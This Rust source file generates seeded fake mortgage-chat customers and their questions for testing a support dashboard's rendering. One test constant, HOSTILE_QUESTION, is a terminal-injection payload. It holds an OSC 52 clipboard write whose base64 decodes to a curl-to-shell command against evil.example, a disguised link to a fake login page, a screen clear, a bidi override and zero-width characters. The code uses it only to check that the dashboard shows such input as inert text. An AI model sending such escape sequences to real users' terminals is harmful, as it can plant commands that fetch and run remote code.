//! Who the simulated customers are and what they ask: names, personas and questions, drawn
//! from one seeded RNG so a seed always gives the same cast. The texts are deliberately
//! varied (short, long, multi-line, emoji, CJK, one hostile string) because the dashboard
//! must show all of them correctly.

use rand::rngs::StdRng;
use rand::seq::{IndexedRandom, SliceRandom};
use rand::{Rng, SeedableRng};

/// How the AI should talk to a customer; sent as `persona` on `message:ai`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Persona {
    Friendly,
    Concise,
    Professional,
}

impl Persona {
    const ALL: [Self; 3] = [Self::Friendly, Self::Concise, Self::Professional];

    pub fn as_str(self) -> &'static str {
        match self {
            Self::Friendly => "friendly",
            Self::Concise => "concise",
            Self::Professional => "professional",
        }
    }
}

/// The shape of a question's text, so tests can check the script covers every shape.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Shape {
    Short,
    Long,
    MultiLine,
    Emoji,
    Cjk,
    Hostile,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Question {
    pub text: String,
    pub shape: Shape,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Customer {
    /// The conversation id: the customer writes on `conversation:{id}` as `customer-{id}`.
    pub id: u32,
    pub name: String,
    pub persona: Persona,
    /// Asked in this order; afterwards only follow-ups.
    pub questions: Vec<Question>,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Script {
    pub customers: Vec<Customer>,
}

const FIRST_NAMES: [&str; 20] = [
    "Priya", "Tom", "Aisha", "Daniel", "Mei", "Oliver", "Fatima", "James", "Sofia", "Kwame",
    "Hannah", "Luca", "Chloe", "Ravi", "Emma", "Mateo", "Grace", "Yusuf", "Isla", "Noah",
];

const LAST_NAMES: [&str; 20] = [
    "Shah", "Bennett", "Khan", "O'Connor", "Chen", "Hughes", "Ali", "Walker", "Rossi", "Mensah",
    "Murphy", "Bianchi", "Evans", "Patel", "Clarke", "García", "Nowak", "Okafor", "Reid", "Taylor",
];

const QUESTIONS: &[(Shape, &str)] = &[
    (Shape::Short, "Hi, is anyone there?"),
    (Shape::Short, "What's today's 5-year fixed rate?"),
    (Shape::Short, "Can I overpay without a penalty?"),
    (Shape::Short, "How long does approval usually take?"),
    (Shape::Short, "Do you charge a broker fee?"),
    (Shape::Short, "Can I speak to a human, please?"),
    (Shape::Short, "Is 10% deposit enough?"),
    (
        Shape::Long,
        "We're a couple buying our first home in Leeds. Combined income is around £78,000 and \
         we've saved a £35,000 deposit. We'd like to keep monthly payments under £1,400. How \
         much could we realistically borrow, and would a 35-year term make sense for us?",
    ),
    (
        Shape::Long,
        "My current fixed deal ends in March and my lender has offered a product transfer at \
         4.89%. Is it worth shopping around for a remortgage, how early can I lock in a new \
         rate, and would I have to pay valuation or legal fees if I switch lenders?",
    ),
    (
        Shape::Long,
        "I've been self-employed as a graphic designer for just over two years. My accountant \
         can provide SA302s and tax year overviews, but my income dipped in the first year. \
         Which documents will lenders want, and will they average both years or use the latest?",
    ),
    (
        Shape::Long,
        "We had an offer accepted on a flat, but the survey says the lease has 78 years left. \
         Will lenders still lend on it, and should we ask the seller to extend the lease before \
         we exchange?",
    ),
    (
        Shape::MultiLine,
        "Quick questions:\n1. What's the minimum deposit?\n2. Can gifted money from my parents \
         count?\n3. Does my student loan affect affordability?",
    ),
    (
        Shape::MultiLine,
        "Here's my situation:\n- salary £52,000\n- car finance £280/month\n- credit card balance \
         £1,900\nWhat could I borrow?",
    ),
    (
        Shape::MultiLine,
        "Hello,\n\nI'm comparing two offers:\n  A) 4.29% fixed, £999 fee\n  B) 4.59% fixed, no fee\n\
         \nLoan is £210,000 over 25 years. Which works out cheaper?",
    ),
    (
        Shape::Emoji,
        "Our offer was accepted!! 🎉🏡 What happens next with the mortgage?",
    ),
    (
        Shape::Emoji,
        "Rates went up again?? 😬 Should I fix now or wait?",
    ),
    (
        Shape::Emoji,
        "Thanks so much 🙏 one more thing — is the valuation fee refundable?",
    ),
    (
        Shape::Emoji,
        "Is a tracker mortgage risky right now? 📈📉 I can't decide 🤔",
    ),
];

/// Written after a customer's main questions, again and again, while they stay around.
const FOLLOW_UPS: &[&str] = &[
    "Any update on this?",
    "Still there?",
    "Thanks, that helps.",
    "OK, and what about the fees?",
    "Sorry, one more: can I port the mortgage if I move house?",
    "Great, thank you! 👍",
    "Could someone call me back tomorrow morning?",
    "Does the rate change if I borrow a bit less?",
];

const CJK_QUESTION: &str = "你好！我想了解一下首次购房的贷款。首付最少需要百分之几？";

/// One customer writes this: a message full of terminal escape sequences (OSC 52 clipboard
/// write, OSC 8 connection, OSC 0 title, CSI 2J, 8-bit CSI), a bidi override and zero-width
/// characters. The dashboard must show it as inert text.
pub const HOSTILE_QUESTION: &str = concat!(
    "Hello\u{1b}]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\u{7}",
    " please \u{1b}]8;;https://evil.example/login\u{1b}\\click here\u{1b}]8;;\u{1b}\\",
    "\u{1b}]0;YOU HAVE BEEN PWNED\u{7}\u{1b}[2J\u{1b}[H",
    "\u{9b}31mred alert\u{9b}0m ",
    "\u{202e}tnemyap eerf\u{202c} ",
    "zero\u{200b}width\u{200b}rate?",
);

/// How many main questions a customer asks before only following up.
const QUESTIONS_PER_CUSTOMER: std::ops::RangeInclusive<usize> = 3..=5;

impl Script {
    /// The cast for `conversations` customers (ids 1..=conversations), from `seed` alone.
    pub fn generate(seed: u64, conversations: usize) -> Self {
        let mut rng = StdRng::seed_from_u64(seed);
        let names = unique_names(&mut rng, conversations);
        let mut customers: Vec<Customer> = names
            .into_iter()
            .zip(1u32..)
            .map(|(name, id)| Customer {
                id,
                name,
                persona: Persona::ALL
                    .choose(&mut rng)
                    .copied()
                    .unwrap_or(Persona::Friendly),
                questions: Vec::new(),
            })
            .collect();
        // Deal a shuffled deck round-robin so that, across customers, every kind of text
        // turns up before any repeats.
        let mut deck = Deck::new(&mut rng);
        let counts: Vec<usize> = customers
            .iter()
            .map(|_| rng.random_range(QUESTIONS_PER_CUSTOMER))
            .collect();
        for round in 0..*QUESTIONS_PER_CUSTOMER.end() {
            for (customer, count) in customers.iter_mut().zip(&counts) {
                if round < *count {
                    let (shape, text) = deck.draw(&mut rng);
                    customer.questions.push(Question {
                        text: text.to_owned(),
                        shape,
                    });
                }
            }
        }
        if !customers.is_empty() {
            let hostile = rng.random_range(0..customers.len());
            // Second message, so the conversation already looks ordinary when it arrives.
            customers[hostile].questions.insert(
                1,
                Question {
                    text: HOSTILE_QUESTION.to_owned(),
                    shape: Shape::Hostile,
                },
            );
            let cjk = (hostile + rng.random_range(1..customers.len().max(2))) % customers.len();
            customers[cjk].questions.insert(
                0,
                Question {
                    text: CJK_QUESTION.to_owned(),
                    shape: Shape::Cjk,
                },
            );
        }
        Self { customers }
    }
}

pub fn follow_up(rng: &mut impl Rng) -> &'static str {
    FOLLOW_UPS.choose(rng).copied().unwrap_or("Any update?")
}

fn unique_names(rng: &mut StdRng, count: usize) -> Vec<String> {
    let mut pairs: Vec<(usize, usize)> = (0..FIRST_NAMES.len())
        .flat_map(|first| (0..LAST_NAMES.len()).map(move |last| (first, last)))
        .collect();
    pairs.shuffle(rng);
    // The first name of the product's examples leads, so the demo always shows it.
    if let Some(position) = pairs.iter().position(|pair| *pair == (0, 0)) {
        pairs.swap(0, position);
    }
    (0..count)
        .map(|index| {
            let (first, last) = pairs[index % pairs.len()];
            let name = format!("{} {}", FIRST_NAMES[first], LAST_NAMES[last]);
            match index / pairs.len() {
                0 => name,
                round => format!("{name} {}", round + 1),
            }
        })
        .collect()
}

struct Deck {
    cards: Vec<(Shape, &'static str)>,
}

impl Deck {
    fn new(rng: &mut StdRng) -> Self {
        let mut deck = Self { cards: Vec::new() };
        deck.refill(rng);
        deck
    }

    fn refill(&mut self, rng: &mut StdRng) {
        self.cards = QUESTIONS.to_vec();
        self.cards.shuffle(rng);
    }

    fn draw(&mut self, rng: &mut StdRng) -> (Shape, &'static str) {
        if self.cards.is_empty() {
            self.refill(rng);
        }
        self.cards.pop().unwrap_or(QUESTIONS[0])
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_same_seed_gives_the_same_script() {
        assert_eq!(Script::generate(7, 12), Script::generate(7, 12));
    }

    #[test]
    fn another_seed_gives_another_script() {
        assert_ne!(Script::generate(7, 12), Script::generate(8, 12));
    }

    #[test]
    fn names_are_unique_and_conversations_numbered_from_one() {
        let script = Script::generate(7, 12);
        let ids: Vec<u32> = script.customers.iter().map(|c| c.id).collect();
        assert_eq!(ids, (1..=12).collect::<Vec<_>>());
        let mut names: Vec<&str> = script.customers.iter().map(|c| c.name.as_str()).collect();
        names.sort_unstable();
        names.dedup();
        assert_eq!(names.len(), 12);
        assert!(names.contains(&"Priya Shah"));
        assert_eq!(Script::generate(1, 500).customers.len(), 500);
    }

    #[test]
    fn every_shape_appears_and_exactly_one_hostile_string() {
        let script = Script::generate(7, 12);
        let shapes: Vec<Shape> = script
            .customers
            .iter()
            .flat_map(|c| c.questions.iter().map(|q| q.shape))
            .collect();
        for shape in [
            Shape::Short,
            Shape::Long,
            Shape::MultiLine,
            Shape::Emoji,
            Shape::Cjk,
        ] {
            assert!(shapes.contains(&shape), "{shape:?} missing");
        }
        let hostile = shapes.iter().filter(|s| **s == Shape::Hostile).count();
        assert_eq!(hostile, 1);
        assert!(Script::generate(3, 1).customers[0].questions.len() >= 4);
    }

    #[test]
    fn the_hostile_string_carries_escape_sequences() {
        for needle in [
            "\u{1b}]52;",
            "\u{1b}]8;;",
            "\u{1b}]0;",
            "\u{1b}[2J",
            "\u{9b}",
            "\u{202e}",
            "\u{200b}",
        ] {
            assert!(HOSTILE_QUESTION.contains(needle), "{needle:?} missing");
        }
    }
}
